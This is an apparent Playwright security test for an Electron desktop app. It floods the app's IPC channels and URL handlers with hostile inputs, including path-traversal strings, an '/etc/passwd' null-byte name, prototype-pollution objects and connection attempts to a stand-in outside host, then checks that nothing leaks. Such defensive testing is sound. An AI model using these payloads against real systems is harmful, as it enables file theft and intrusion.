import { readdir, writeFile } from 'node:fs/promises'
import path from 'node:path'
import { contract } from '../../preload/contract.ts'
import type { StillroomApp } from '../support/app/launch.ts'
import { expect, test } from '../support/app.ts'
import { captureRequests } from '../support/rig.ts'
import { captureRoom, liveRoom, openProject, windowOf } from './window.ts'

/** Long enough that it can't be anywhere by chance. */
const secret = '7c0ffee5d1b3a94e8f60172c5bd3e8a96f4c21d0e7b85a3396ad04f1c2e7d8b5'
const inPrivate = 'what-nobody-may-read-4711'

const calls = 10_000
/** So many at once: a flood, in which no call waits for another. */
const wave = 500

test.use({ sandboxOptions: { secret }, expectedProblems: /^console: /u })

test('a page that means harm gets no secret, no file and no crash', async ({ app, sandbox }) => {
  test.slow()
  const canary = path.join(app.root, 'private.txt')
  await writeFile(canary, inPrivate)
  await openProject(app.page, sandbox)
  const { roomId } = liveRoom(sandbox)
  await captureRoom(app.page, roomId)
  await expect(windowOf(app.page).still(roomId)).toBeVisible()
  const before = await readdir(app.root)
  await app.outside({ type: 'answer', button: 1 })

  const outcomes = new Set<string>()
  for (let done = 0; done < calls; done += wave) {
    for (const outcome of await flood(app, canary, done)) outcomes.add(outcome)
  }
  outcomes.add(await connectElsewhere(app))
  for (const answer of await readPaths(app, canary)) outcomes.add(answer)
  console.log(
    `${calls} calls over ${Object.keys(contract).length} channels: ${outcomes.size} different answers`,
  )

  const said = [...outcomes].join('\n')
  expect(said, 'the secret').not.toContain(secret)
  expect(said, 'a token').not.toMatch(/eyJ[\w-]{10,}\.eyJ/u)
  expect(said, 'a file outside the library').not.toContain(inPrivate)
  expect(
    [...outcomes].filter((outcome) => outcome.includes('internal:')),
    'bugs in main',
  ).toEqual([])
  expect(await readdir(app.root)).toEqual(before)
  expect(said, 'a host of its choice').toContain('Nothing was sent to elsewhere.example.test.')
  const opened = (await app.desktopCalls()).filter(({ name }) => name === 'shell.openExternal')
  for (const { argument } of opened)
    expect(argument).toMatch(/^https:\/\/(?:docs|app)\.videosdk\.live\//u)
  await expectCaptures(app, sandbox, roomId)
})

/** One wave of calls with everything that can go wrong in it. @returns what was answered */
function flood(app: StillroomApp, canary: string, start: number): Promise<readonly string[]> {
  return app.page.evaluate(
    async ({ channels, canary, start, wave }) => {
      const api = window.stillroom as unknown as Record<
        string,
        (args?: unknown) => Promise<unknown>
      >
      let state = start + 1
      const random = (most: number) => {
        state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0
        return Math.floor((state / 4_294_967_296) * most)
      }
      const pick = <T>(list: readonly T[]) => list[random(list.length)] as T
      const cyclic: Record<string, unknown> = {}
      cyclic.itself = cyclic
      const values = [
        undefined,
        null,
        -1,
        2 ** 53,
        Number.NaN,
        '',
        canary,
        `file://${canary}`,
        `../../../..${canary}`,
        `..%2f..%2f..%2f${encodeURIComponent(canary)}`,
        '/etc/passwd\0.jpg',
        'CON',
        '__proto__',
        'sandbox',
        'http://127.0.0.1:1/',
        'x'.repeat(100_000),
        [],
        Array.from({ length: 5000 }, (_, index) => index),
        cyclic,
        JSON.parse('{"__proto__": {"isAdmin": true}, "constructor": {"prototype": {}}}'),
        {
          get projectId() {
            throw new Error('a getter')
          },
        },
      ]
      const names = [
        'projectId',
        'stillId',
        'jobId',
        'roomId',
        'rooms',
        'options',
        'places',
        'place',
        'scope',
        'template',
        'secret',
        'name',
        'query',
        'spec',
        'format',
        'folderId',
        'trashId',
        'exportId',
        'scheduleId',
        'retentionId',
        'page',
        'path',
        'file',
        'folder',
        'target',
        'constructor',
      ]
      const argument = () => {
        if (random(4) === 0) return pick(values)
        const made: Record<string, unknown> = {}
        for (let field = random(6); field >= 0; field -= 1) made[pick(names)] = pick(values)
        return made
      }
      const call = async () => {
        try {
          return JSON.stringify(await api[pick(channels)]?.(argument()))
        } catch (error) {
          return String(error)
        }
      }
      return [...new Set(await Promise.all(Array.from({ length: wave }, call)))].map(String)
    },
    { channels: Object.keys(contract), canary, start, wave },
  )
}

/** A whole project, so that main would ask its server. */
function connectElsewhere(app: StillroomApp): Promise<string> {
  return app.page.evaluate(async () => {
    const project = { name: 'x', apiKey: 'key', secret: 'stolen-data' }
    const { connectProject } = window.stillroom
    const hosts = ['https://elsewhere.example.test', 'https://10.0.0.1', 'https://[fd00::1]']
    const answers = hosts.map((endpoint) => connectProject({ ...project, endpoint }))
    return JSON.stringify(await Promise.all(answers))
  })
}

/** Addresses of the app that would be files, if somebody took them for such. */
function readPaths(app: StillroomApp, canary: string): Promise<readonly string[]> {
  return app.page.evaluate(async (file) => {
    const dots = '..%2f'.repeat(12)
    const paths = ['still', 'preview', 'hls', ''].flatMap((folder) => [
      `/${folder}/${file}`,
      `/${folder}/${dots}${encodeURIComponent(file)}`,
      `/${folder}/%2e%2e/%2e%2e${file}`,
      `/${folder}/${encodeURIComponent(file)}?x`,
    ])
    const answers = paths.map(async (path) => {
      const answer = await fetch(path)
      return `${answer.status} ${answer.ok ? await answer.text() : ''}`
    })
    return await Promise.all(answers.map((answer) => answer.catch(String)))
  }, canary)
}

/** With the page's own calls: the words on it may be of another language by now. */
async function expectCaptures(
  app: StillroomApp,
  sandbox: Parameters<typeof openProject>[1],
  roomId: string,
): Promise<void> {
  const since = sandbox.log.length
  const before = await newestStill(app)
  const result = await app.page.evaluate(
    async ({ roomId, ...project }) => {
      const { stillroom } = window
      const connected = await stillroom.connectProject({ name: 'Again', ...project })
      if (!connected.ok) return connected.error.message
      const rooms = [{ roomId, customRoomId: null }]
      const ordered = await stillroom.capture({ projectId: connected.value.id, rooms, options: {} })
      return ordered.ok ? ordered.value.length : ordered.error.message
    },
    { roomId, apiKey: sandbox.apiKey, secret, endpoint: sandbox.endpoint },
  )
  expect(result).toBe(1)
  await expect.poll(() => captureRequests(sandbox, since).length).toBeGreaterThan(0)
  await expect.poll(() => newestStill(app)).not.toBe(before)
}

/** The id of the newest still in the list. */
function newestStill(app: StillroomApp): Promise<string | undefined> {
  return app.page.evaluate(async () => {
    const newest = await window.stillroom.listStills({ limit: 1 })
    return newest.ok ? newest.value[0]?.id : newest.error.message
  })
}
